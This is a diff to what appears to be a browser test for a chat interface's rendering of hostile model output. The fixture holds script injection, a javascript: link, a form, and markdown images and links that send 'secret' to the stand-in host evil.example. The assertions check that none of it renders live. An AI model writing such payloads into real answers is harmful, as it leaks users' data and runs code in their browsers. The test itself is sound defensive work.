@@ -14,6 +14,10 @@ const SCRIPT = `
     <script>document.title = 'owned'</script>
     ![pixel](https://evil.example/pixel.png)
     [press me](javascript:document.title='owned')
+
+    Read [the manual](https://evil.example/?told=secret) ![of a cat](https://evil.example/cat.png)
+    or https://evil.example/?told=secret
+
     <form action="https://evil.example"><button>Approve</button></form>
     The end.
 - when: { user: fail }
@@ -66,6 +70,9 @@ it('shows what a hostile model writes as text', async () => {
   const answer = page.getByRole('article').locator('.markdown').last()
   expect(await answer.locator('img, script, form, button, [onerror]').count()).toBe(0)
   expect(await page.title()).not.toContain('owned')
+  // Only what was written as a link is one, and it says where it leads.
+  expect(await answer.locator('a[href]').allInnerTexts()).toEqual(['the manual', 'of a cat'])
+  await answer.getByText('the manual (evil.example) of a cat (evil.example)').waitFor()
 })
 
 it('says what failed and that nothing more was done, and says the same again if it is told to', async () => {
